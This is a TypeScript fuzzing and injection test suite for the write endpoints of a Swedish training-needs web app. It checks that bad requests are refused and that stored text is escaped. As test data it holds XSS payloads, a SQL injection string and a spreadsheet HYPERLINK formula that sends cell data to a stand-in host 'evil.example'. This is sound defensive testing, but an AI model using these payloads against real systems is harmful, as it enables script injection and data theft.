/**
 * Fuzzing every write endpoint with fast-check: at least 1,000 generated bad requests each
 * (bodies that are guaranteed invalid, with hostile strings, numbers and keys inside; malformed
 * JSON; other content types; hostile query strings, headers and path segments). Every answer
 * must be a 4xx: problem+json from the API, a Swedish HTML page from the public pages. Nothing
 * may be stored (row counts of every table unchanged) and no prototype may be polluted.
 * A write route the app registers without an entry in TARGETS fails the suite.
 *
 * Seeds are fixed per endpoint, so a failure reproduces; the failure names the seed, the path
 * and the input. FUZZ_RUNS changes the number of runs, FUZZ_SEED the seeds (to explore),
 * FUZZ_SHRINK=on lets fast-check shrink a counterexample, FUZZ_STATS=on prints the answers.
 */
import { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import request from 'supertest';
import { SESSION_COOKIE } from '../../apps/api/src/staff/staff-session';
import {
  BadBody,
  badForm,
  badHeaders,
  badJsonBody,
  badPathSegment,
  badQuery,
  EDIT_FORM_BREAKERS,
  FormBreaker,
  Headers,
  hostileString,
  Json,
  NEED_FORM_BREAKERS,
} from '../support/fuzz';
import {
  isoDay,
  validEditForm,
  validNeedBody,
  validNeedForm,
  validOfferingBody,
  validOfferingForm,
} from '../support/bodies';
import { registeredRoutes } from '../support/routes';
import { accountEmail, AccountName, startWorld, World, WORLD_PASSWORD } from '../support/world';

const RUNS = Number(process.env.FUZZ_RUNS ?? 1_000);
/** Another base explores other inputs (each endpoint's seed is derived from it and its name). */
const SEED_BASE = Number(process.env.FUZZ_SEED ?? 9);
const RAW_MARKUP = [/<script>alert/i, /<img src=x/i, /<svg onload/i];

interface Fixtures {
  /** The tracking token of an open need (received), which the employer may still change. */
  needToken: string;
  offering: string;
  proposal: string;
  initiative: string;
  /** The staff pages' CSRF cookie and form token, and a regional user's session cookie. */
  csrf: { cookies: string; token: string };
  session: string;
  /** A broker of the fixtures' region, and an initiative of it that is running. */
  brokerSession: string;
  runningInitiative: string;
  /** A provider of the fixtures' centre (Utbudsvyn). */
  providerSession: string;
  /** An account that only the account routes are fuzzed against. */
  account: string;
  /** A living ESF project draft of the broker's county, with content to approve. */
  projectDraft: string;
}

interface Input {
  path: string;
  body: BadBody;
  query: string;
  headers: Headers;
  /** Replaces a valid Authorization header with garbage. */
  badAuth: string | null;
}

/** One write route, keyed `METHOD /path` as the router lists it. */
interface Target {
  /** Generated paths for `:param` routes; otherwise the key's path. */
  path?: (f: Fixtures) => fc.Arbitrary<string>;
  body: (w: World, f: Fixtures) => fc.Arbitrary<BadBody>;
  as?: AccountName;
  cookies?: (f: Fixtures) => string;
  /** Public pages answer errors with a Swedish HTML page instead of problem+json. */
  page?: boolean;
  /**
   * The broker's pages write refused attempts and shown contact details to audit_log by design;
   * every other table must stay unchanged.
   */
  audited?: boolean;
  /**
   * The kind of answer (see `answerKind`) that shows a request got past parsing into the
   * endpoint's own checks; at least a tenth of the answers must be of it, so the generators
   * keep testing the endpoint and not only the body parser.
   */
  reaches: RegExp;
}

/** The real resource most of the time (so validation is reached), a bad segment otherwise. */
const mostly =
  (prefix: string, id: (f: Fixtures) => string, suffix = '') =>
  (f: Fixtures) =>
    fc
      .oneof(
        { weight: 4, arbitrary: fc.constant(encodeURIComponent(id(f))) },
        { weight: 1, arbitrary: badPathSegment },
      )
      .map((segment) => `${prefix}${segment}${suffix}`);
const never =
  (prefix: string, suffix = '') =>
  () =>
    badPathSegment.map((segment) => `${prefix}${segment}${suffix}`);

const needBody = (w: World) => badJsonBody(validNeedBody([w.competenceId]));

const FIELDS = /^400 fields/;
const needForm = (w: World) => badForm(validNeedForm(w.competenceId), NEED_FORM_BREAKERS);
const offeringBody = (w: World) => badJsonBody(validOfferingBody([w.competenceId]));
const json = (valid: Json) => () => badJsonBody(valid);
/** A form that only the given field (left out or hostile) spoils. */
const spoilt = (field: string): FormBreaker[] => [
  [field, fc.oneof(fc.constant(undefined), hostileString)],
];

/** A form field with values that can never be a count of participants. */
const notACount = fc.oneof(
  fc.constant(undefined),
  fc.constantFrom('', ' ', 'två', '-1', '1,5', '1e3', '999999', '0x1'),
  hostileString.filter((s) => !/^\s*\d{1,5}\s*$/.test(s)),
);
const tooLong = fc.integer({ min: 1_001, max: 6_000 }).map((n) => 'å'.repeat(n));
const brokerForm =
  (valid: Record<string, string>, breakers: FormBreaker[]) => (_w: World, f: Fixtures) =>
    badForm({ ...valid, _csrf: f.csrf.token }, [...spoilt('_csrf'), ...breakers]);
const brokerPage = {
  as: undefined,
  cookies: (f: Fixtures) => `${f.csrf.cookies}; ${SESSION_COOKIE}=${f.brokerSession}`,
  page: true,
  audited: true,
} as const;

/** Values that always spoil one field of the /utbud offering form. */
const OFFERING_FORM_BREAKERS: FormBreaker[] = [
  [
    'title',
    // Never left out: a corrupted body may append a title of its own (`&title=%E0%A4%A`).
    fc.oneof(
      fc.constantFrom('', '  ', 'ab'),
      fc.integer({ min: 201, max: 3_000 }).map((n) => 'ö'.repeat(n)),
    ),
  ],
  [
    'minParticipants',
    fc.oneof(
      fc.constant(undefined),
      fc.constantFrom('', 'fem', '-1', '0', '501', '1,5', '0x1', '1e3'),
    ),
  ],
  ['deliveryMode', fc.oneof(fc.constant(undefined), fc.constantFrom('', 'bil', 'ONSITE'))],
  ['startWindows.0.from', hostileString.filter((s) => !/^\s*\d{4}-\d{2}-\d{2}\s*$/.test(s))],
  ['url', hostileString.filter((s) => s.trim() !== '' && !/^https?:/i.test(s.trim()))],
  ['contact.email', hostileString.filter((s) => !s.includes('@') && s.trim() !== '')],
];
const providerPage = {
  as: undefined,
  cookies: (f: Fixtures) => `${f.csrf.cookies}; ${SESSION_COOKIE}=${f.providerSession}`,
  page: true,
} as const;
const offeringForm = (w: World, f: Fixtures) =>
  badForm({ ...validOfferingForm(w.competenceId), _csrf: f.csrf.token }, [
    ...spoilt('_csrf'),
    ...OFFERING_FORM_BREAKERS,
  ]);

const TARGETS: Record<string, Target> = {
  'POST /api/v1/needs': { body: needBody, reaches: FIELDS },
  'DELETE /api/v1/needs/track/:token': {
    path: never('/api/v1/needs/track/'),
    body: needBody,
    reaches: /^404 /,
  },
  'PATCH /api/v1/needs/track/:token': {
    path: mostly('/api/v1/needs/track/', (f) => f.needToken),
    body: json({
      description: 'Kvällskurs passar bäst',
      participants: { total: 3, women: 1, men: 2 },
      earliestStart: isoDay(30),
      latestEnd: isoDay(200),
      deliveryModes: ['onsite'],
      maxTravelKm: 55,
      maxCostPerParticipantSek: 9000,
      contact: { name: 'Bo Ek', email: 'bo@example.se' },
    }),
    reaches: FIELDS,
  },
  'POST /behov': { body: needForm, page: true, reaches: /^400 form/ },
  'POST /behov/:token/andra': {
    path: mostly('/behov/', (f) => f.needToken, '/andra'),
    body: () => badForm(validEditForm(), EDIT_FORM_BREAKERS),
    page: true,
    reaches: /^400 form/,
  },
  'POST /behov/:token/aterkalla': {
    path: never('/behov/', '/aterkalla'),
    body: needForm,
    page: true,
    reaches: /^404 page/,
  },
  'POST /api/v1/auth/login': {
    body: json({ email: accountEmail('providerOwn'), password: WORLD_PASSWORD }),
    reaches: FIELDS,
  },
  // Anonymous: a valid token would be revoked and spoil the other targets' accounts.
  'POST /api/v1/auth/logout': { body: json({}), reaches: /^401 / },
  'PATCH /api/v1/admin/users/:id': {
    path: mostly('/api/v1/admin/users/', (f) => f.account),
    body: json({ password: WORLD_PASSWORD, disabled: false }),
    as: 'admin',
    reaches: FIELDS,
  },
  'POST /api/v1/offerings': { body: offeringBody, as: 'providerOwn', reaches: FIELDS },
  'PATCH /api/v1/offerings/:id': {
    path: mostly('/api/v1/offerings/', (f) => f.offering),
    body: offeringBody,
    as: 'providerOwn',
    reaches: FIELDS,
  },
  'DELETE /api/v1/offerings/:id': {
    path: never('/api/v1/offerings/'),
    body: offeringBody,
    as: 'providerOwn',
    reaches: /^(404 |400 Validation failed \(uuid)/,
  },
  'POST /api/v1/admin/users': {
    body: json({
      email: 'ny.anvandare@world.test',
      password: WORLD_PASSWORD,
      role: 'broker',
      learningCentreId: 'lc-orebro',
    }),
    as: 'admin',
    reaches: FIELDS,
  },
  'POST /api/v1/admin/proposals/:id/approve': {
    path: mostly('/api/v1/admin/proposals/', (f) => f.proposal, '/approve'),
    body: json({ note: 'Godkänt efter samtal med arbetsgivarna' }),
    as: 'brokerOwn',
    reaches: FIELDS,
  },
  'POST /api/v1/admin/proposals/:id/reject': {
    path: mostly('/api/v1/admin/proposals/', (f) => f.proposal, '/reject'),
    body: json({ reason: 'Arbetsgivarna vill ha kvällskurs' }),
    as: 'brokerOwn',
    reaches: FIELDS,
  },
  'POST /api/v1/admin/initiatives/:id/status': {
    path: mostly('/api/v1/admin/initiatives/', (f) => f.initiative, '/status'),
    body: json({ status: 'running' }),
    as: 'brokerOwn',
    reaches: FIELDS,
  },
  'POST /api/v1/admin/initiatives/:id/reopen': {
    // A planned initiative: a valid request reaches the lifecycle check (only cancelled reopen).
    path: mostly('/api/v1/admin/initiatives/', (f) => f.initiative, '/reopen'),
    body: json({}),
    as: 'brokerOwn',
    reaches: /^409 /,
  },
  'POST /api/v1/admin/project-drafts/:id/approve': {
    path: never('/api/v1/admin/project-drafts/', '/approve'),
    body: json({ note: 'x' }),
    as: 'brokerOwn',
    reaches: /^404 /,
  },
  'POST /api/v1/admin/employers/:orgNumber/confirm': {
    path: () =>
      fc
        .oneof(
          { weight: 4, arbitrary: fc.constant('556036-0793') },
          { weight: 1, arbitrary: badPathSegment },
        )
        .map((segment) => `/api/v1/admin/employers/${segment}/confirm`),
    body: json({ needId: '00000000-0000-4000-8000-000000000000' }),
    as: 'brokerOwn',
    reaches: FIELDS,
  },
  'POST /api/v1/admin/matching/runs': {
    body: json({ countyCode: '18' }),
    as: 'brokerOwn',
    reaches: FIELDS,
  },
  'POST /logga-in': {
    body: (_w, f) =>
      badForm(
        { email: accountEmail('regionalOwn'), password: 'inte-lösenordet-1', _csrf: f.csrf.token },
        spoilt('password'),
      ),
    cookies: (f) => f.csrf.cookies,
    page: true,
    reaches: /^40[01] /,
  },
  'POST /logga-ut': {
    body: (_w, f) => badForm({ _csrf: f.csrf.token }, spoilt('_csrf')),
    cookies: (f) => `${f.csrf.cookies}; ${SESSION_COOKIE}=${f.session}`,
    page: true,
    reaches: /^403 /,
  },
  'POST /maklare/forslag/:id/godkann': {
    ...brokerPage,
    path: mostly('/maklare/forslag/', (f) => f.proposal, '/godkann'),
    // The note is optional, so only the CSRF token can be relied on to spoil the form (a corrupted
    // body can drop a too-long note); the note's limit is tested in broker-pages.e2e-spec.ts.
    body: brokerForm({ anteckning: 'Klart med anordnaren' }, []),
    reaches: /^403 /,
  },
  'POST /maklare/forslag/:id/avsla': {
    ...brokerPage,
    path: mostly('/maklare/forslag/', (f) => f.proposal, '/avsla'),
    body: brokerForm({ skal: 'Vill ha kvällskurs' }, [
      ['skal', fc.oneof(fc.constant(undefined), fc.constantFrom('', '  ', 'ab', ' x '), tooLong)],
    ]),
    reaches: /^(400 form|403 )/,
  },
  'POST /maklare/insatser/:id/starta': {
    ...brokerPage,
    path: mostly('/maklare/insatser/', (f) => f.initiative, '/starta'),
    body: brokerForm({}, []),
    reaches: /^403 /,
  },
  'POST /maklare/insatser/:id/resultat': {
    ...brokerPage,
    path: mostly('/maklare/insatser/', (f) => f.runningInitiative, '/resultat'),
    body: brokerForm({ kvinnor: '1', man: '2' }, [
      ['kvinnor', notACount],
      ['man', notACount],
    ]),
    reaches: /^400 form/,
  },
  'POST /maklare/insatser/:id/stall-in': {
    ...brokerPage,
    path: mostly('/maklare/insatser/', (f) => f.initiative, '/stall-in'),
    body: brokerForm({ skal: 'Lokalen är inte tillgänglig' }, []),
    reaches: /^403 /,
  },
  'POST /maklare/utkast/:id/godkann': {
    ...brokerPage,
    path: mostly('/maklare/utkast/', (f) => f.projectDraft, '/godkann'),
    body: brokerForm({}, []),
    reaches: /^403 /,
  },
  'POST /utbud/nytt': { ...providerPage, body: offeringForm, reaches: /^400 form/ },
  'POST /utbud/:id/andra': {
    ...providerPage,
    path: mostly('/utbud/', (f) => f.offering, '/andra'),
    body: offeringForm,
    reaches: /^400 form/,
  },
  'POST /utbud/:id/ta-bort': {
    ...providerPage,
    path: mostly('/utbud/', (f) => f.offering, '/ta-bort'),
    body: brokerForm({}, []),
    reaches: /^403 /,
  },
};

/** What is wrong with an answer to a bad request, if anything. */
function complaint(res: request.Response, page: boolean): string | undefined {
  const type = String(res.headers['content-type'] ?? '');
  const text = String(res.body ?? '');
  if (res.status < 400 || res.status >= 500) return `status ${res.status}`;
  // Node's HTTP parser refuses headers over 16 kB itself, before any of the app runs.
  if (res.status === 431) return undefined;
  if (page) {
    if (!type.startsWith('text/html')) return `a page answered ${res.status} with ${type}`;
    if (!text.includes('<html lang="sv"')) return 'the error page is not Swedish HTML';
    const raw = RAW_MARKUP.find((pattern) => pattern.test(text));
    if (raw) return `the page contains raw markup ${raw}`;
    return undefined;
  }
  if (!type.startsWith('application/problem+json')) return `${res.status} with ${type}`;
  let problem: { status?: unknown; title?: unknown };
  try {
    problem = JSON.parse(text);
  } catch {
    return 'the problem+json body is not JSON';
  }
  if (problem.status !== res.status || typeof problem.title !== 'string') {
    return 'the problem+json body lacks status/title';
  }
  return undefined;
}

/** "status what": `400 fields` (field problems), `400 form` (the form again), `404 page`, …. */
function answerKind(res: request.Response, page: boolean): string {
  const text = String(res.body ?? '');
  if (page) return `${res.status} ${text.includes('error-summary') ? 'form' : 'page'}`;
  try {
    const body = JSON.parse(text) as { errors?: unknown; detail?: string };
    return `${res.status} ${body.errors ? 'fields' : (body.detail ?? '').slice(0, 40)}`;
  } catch {
    return `${res.status} ?`;
  }
}

/** fast-check's own report prints whole 60 kB bodies; this one stays readable. */
function describeFailure(details: fc.RunDetails<[Input]>): string {
  const [input] = details.counterexample ?? [];
  const short = (text: string) =>
    text.length > 400 ? `${text.slice(0, 400)}… (${text.length})` : text;
  const error = details.errorInstance instanceof Error ? details.errorInstance.message : '';
  return [
    `seed ${details.seed}, path "${details.counterexamplePath}" (fc.check with { seed, path })`,
    `error: ${short(error)}`,
    input
      ? `input: ${input.path}?${short(input.query)} ${input.body.contentType} (${input.body.note}) ` +
        `${short(input.body.text)} headers ${short(JSON.stringify(input.headers))}` +
        (input.badAuth !== null ? ` auth ${input.badAuth}` : '')
      : '',
  ].join('\n');
}

describe('fuzzing the write endpoints', () => {
  let w: World;
  let f: Fixtures;
  let base: string;
  const prototypeKeys = () => Object.getOwnPropertyNames(Object.prototype).sort().join(',');
  const cleanPrototype = prototypeKeys();

  beforeAll(async () => {
    w = await startWorld();
    f = {
      needToken: (await w.need('orebro', 'received')).token,
      offering: await w.offering('orebro'),
      proposal: await w.proposal('orebro'),
      initiative: await w.initiative('orebro'),
      csrf: await w.staffCsrf(),
      session: w.tokens.regionalOwn,
      brokerSession: w.tokens.brokerOwn,
      providerSession: w.tokens.providerOwn,
      runningInitiative: await w.initiative('orebro'),
      account: (
        await w
          .http()
          .post('/api/v1/admin/users')
          .set(w.auth('admin'))
          .send({ email: 'fuzz.konto@world.test', password: WORLD_PASSWORD, role: 'admin' })
      ).body.id,
      projectDraft: await w.projectDraft('orebro'),
    };
    await w.db.query(`UPDATE initiative SET status = 'running' WHERE id = $1`, [
      f.runningInitiative,
    ]);
    const server = w.t.app.getHttpServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  }, 60_000);
  afterAll(() => w?.t.close());

  const send = (name: string, target: Target, input: Input) => {
    const url = `${input.path}${input.query ? `?${input.query}` : ''}`;
    const method = name.split(' ')[0].toLowerCase() as 'post' | 'patch' | 'delete';
    let req = request(base)
      [method](url)
      .set('X-Forwarded-For', w.nextIp())
      .buffer(true)
      .parse((res, done) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => (text += chunk));
        res.on('end', () => done(null, text));
      });
    if (target.as) req = req.set(w.auth(target.as));
    if (target.cookies) req = req.set('Cookie', target.cookies(f));
    if (input.badAuth !== null) req = req.set('Authorization', input.badAuth);
    req = req.set(input.headers).set('Content-Type', input.body.contentType);
    return req.send(input.body.text);
  };

  it('fuzzes every write route the app registers (add a TARGETS entry for a new one)', () => {
    const writes = registeredRoutes(w.t.app).filter((key) => /^(POST|PUT|PATCH|DELETE) /.test(key));
    expect(writes.filter((key) => !(key in TARGETS))).toEqual([]);
    expect(Object.keys(TARGETS).filter((key) => !writes.includes(key))).toEqual([]);
  });

  for (const [name, target] of Object.entries(TARGETS)) {
    it(`${name}: ${RUNS} bad requests → 4xx, nothing stored`, async () => {
      const before = await w.rowCounts();
      const input: fc.Arbitrary<Input> = fc.record({
        path: target.path?.(f) ?? fc.constant(name.split(' ')[1]),
        body: target.body(w, f),
        query: fc.oneof(fc.constant(''), badQuery),
        headers: badHeaders,
        badAuth: target.as
          ? fc.oneof(
              { weight: 19, arbitrary: fc.constant(null) },
              {
                weight: 1,
                arbitrary: fc.constantFrom(
                  '',
                  'Bearer',
                  'Bearer x.y.z',
                  'Basic YTpi',
                  'Bearer å.ä.ö',
                ),
              },
            )
          : fc.constant(null),
      });
      const seed = [...name].reduce((h, c) => (h * 31 + c.charCodeAt(0)) | 0, SEED_BASE);
      const tally = new Map<string, number>();
      const details = await fc.check(
        fc.asyncProperty(input, async (i) => {
          const res = await send(name, target, i);
          const kind = answerKind(res, target.page ?? false);
          tally.set(kind, (tally.get(kind) ?? 0) + 1);
          const problem = complaint(res, target.page ?? false);
          if (problem) throw new Error(`${problem}: ${String(res.body).slice(0, 300)}`);
        }),
        { numRuns: RUNS, seed, endOnFailure: process.env.FUZZ_SHRINK !== 'on' },
      );
      if (process.env.FUZZ_STATS)
        console.log(
          name,
          [...tally].sort((a, b) => b[1] - a[1]),
        );
      expect(details.failed ? describeFailure(details) : 'ok').toBe('ok');
      const reached = [...tally].filter(([kind]) => target.reaches.test(kind));
      expect(reached.reduce((n, [, count]) => n + count, 0)).toBeGreaterThanOrEqual(RUNS / 10);
      const unaudited = (counts: Record<string, number>) =>
        target.audited ? { ...counts, audit_log: 0 } : counts;
      expect(unaudited(await w.rowCounts())).toEqual(unaudited(before));
      expect(prototypeKeys()).toBe(cleanPrototype);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    }, 300_000);
  }

  describe('injected markup and formulas come back escaped', () => {
    const SCRIPT = '<script>alert(1)</script>';
    const IMG = '"><img src=x onerror=alert(1)>';
    const SVG = "'><svg onload=alert(1)>";
    const FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Klicka")';
    const hostile = (token: string) => ({
      title: `Kurs ${SCRIPT}`,
      description: `${IMG} ${SVG} </textarea>${SCRIPT} \u202eRTL\u202c zero\u200bwidth ${FORMULA}`,
      employer: {
        orgNumber: '556703-7485',
        name: `${IMG} ${token}`,
        municipalityCode: '1880',
        sniSection: 'C',
        employees: 12,
      },
      contact: { name: SVG, email: 'anna@example.se' },
    });
    const rawMarkup = (page: string) =>
      [SCRIPT, IMG, SVG, '<img', '<svg', '<script>alert'].filter((raw) => page.includes(raw));
    const get = (path: string) =>
      w
        .http()
        .get(path)
        .set('X-Forwarded-For', w.nextIp())
        .buffer(true)
        .parse((res, done) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('end', () => done(null, Buffer.concat(chunks).toString('utf8')));
        });

    it('on every page that shows a need, in the JSON APIs verbatim, and in the CSV export', async () => {
      const submitted = await w
        .http()
        .post('/api/v1/needs')
        .set('X-Forwarded-For', w.nextIp())
        .send(validNeedBody([w.competenceId], hostile('AB')));
      expect(submitted.status).toBe(201);
      const token = submitted.body.trackingToken as string;

      const form = await w
        .http()
        .post('/behov')
        .set('X-Forwarded-For', w.nextIp())
        .type('form')
        .send({
          ...validNeedForm(w.competenceId),
          title: `Kurs ${SCRIPT}`,
          description: `${IMG} ${SVG}`,
          'employer.name': `${IMG} HB`,
          'contact.name': SVG,
        });
      expect(form.status).toBe(303);
      const formToken = /^\/behov\/([\w-]{43})/.exec(form.headers.location)![1];
      const invalidForm = await w
        .http()
        .post('/behov')
        .set('X-Forwarded-For', w.nextIp())
        .type('form')
        .send({
          ...validNeedForm(w.competenceId),
          title: SCRIPT,
          'contact.name': IMG,
          consent: '',
        });
      expect(invalidForm.status).toBe(400);

      const pages: [string, string][] = [['POST /behov (form again)', invalidForm.text]];
      for (const path of [
        `/behov/${token}`,
        `/behov/${token}?ny=1`,
        `/behov/${token}/aterkalla`,
        `/behov/${formToken}`,
      ]) {
        const res = await get(path);
        expect(res.status).toBe(200);
        pages.push([path, String(res.body)]);
      }
      const withdrawn = await w
        .http()
        .post(`/behov/${formToken}/aterkalla`)
        .set('X-Forwarded-For', w.nextIp());
      expect(withdrawn.status).toBe(303);
      pages.push([
        withdrawn.headers.location,
        String((await get(withdrawn.headers.location)).body),
      ]);

      const dashboard = await get('/uppfoljning?lan=18').set(
        'Cookie',
        `${SESSION_COOKIE}=${w.tokens.admin}`,
      );
      expect(dashboard.status).toBe(200);
      expect(rawMarkup(String(dashboard.body))).toEqual([]);

      for (const [path, page] of pages) {
        expect({ path, raw: rawMarkup(page) }).toEqual({ path, raw: [] });
        expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      }
      expect(pages[1][1]).toContain('&lt;svg onload=alert(1)&gt;');

      // JSON keeps the text as it was written; browsers must not sniff it as HTML.
      const tracked = await w.http().get(`/api/v1/needs/track/${token}`).expect(200);
      expect(tracked.body.title).toBe(`Kurs ${SCRIPT}`);
      const [need] = await w.db.query(`SELECT n.id, n.employer_id FROM need n WHERE n.id = $1`, [
        submitted.body.id,
      ]);
      const others = [await w.need('orebro'), await w.need('orebro')];
      await w.db.query(`UPDATE employer SET name = $2 WHERE id = ANY ($1::uuid[])`, [
        others.map((n) => n.employerId),
        `${FORMULA} AB`,
      ]);
      const proposalId = await w.proposal('orebro', [
        { needId: need.id, employerId: need.employer_id, token, municipalityCode: '1880' },
        ...others,
      ]);
      const proposal = await w
        .http()
        .get(`/api/v1/admin/proposals/${proposalId}`)
        .set(w.auth('brokerOwn'))
        .expect(200);
      expect(proposal.headers['content-type']).toMatch(/^application\/json/);
      expect(proposal.headers['x-content-type-options']).toBe('nosniff');
      expect(proposal.body.needs.map((n: { employerName: string }) => n.employerName)).toContain(
        `${IMG} AB`,
      );

      // A spreadsheet must not run a formula an employer typed as its name.
      await w.db.query(`UPDATE employer SET name = $2 WHERE id = $1`, [
        need.employer_id,
        `${FORMULA} HB`,
      ]);
      const draftId = await w.projectDraft('orebro', proposalId);
      const csv = await get(`/api/v1/admin/project-drafts/${draftId}/export?format=csv`).set(
        w.auth('brokerOwn'),
      );
      expect(csv.status).toBe(200);
      const rows: string[][] = parse(String(csv.body), { delimiter: ';', bom: true });
      const employers = rows
        .filter((r) => r[0] === 'Deltagande arbetsgivare')
        .map((r) => r[1])
        .join('\n');
      expect(employers).toContain('HYPERLINK');
      const formulas = rows.flat().filter((cell) => /^[=+@\t\r]|^-(?!\d)/.test(cell));
      expect(formulas).toEqual([]);
    });

    it('valid texts with unicode edge cases are stored or refused with a 4xx, never a 5xx', async () => {
      for (const text of [
        'Kurs \u0000 med NUL',
        'Kurs \u202eRTL\u202c',
        'Kurs zero\u200bwidth\ufeff',
        'Kurs مرحبا',
        'Kurs 😀😀',
        'Kurs \u0301\u0301',
        "Kurs '; DROP TABLE need; --",
      ]) {
        const res = await w
          .http()
          .post('/api/v1/needs')
          .set('X-Forwarded-For', w.nextIp())
          .send(validNeedBody([w.competenceId], { title: text, description: text }));
        expect([text, res.status < 500]).toEqual([text, true]);
        if (res.status === 201) {
          const tracked = await w.http().get(`/api/v1/needs/track/${res.body.trackingToken}`);
          expect(tracked.body.title).toBe(text.trim());
        } else {
          expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
        }
      }
    });
  });
});
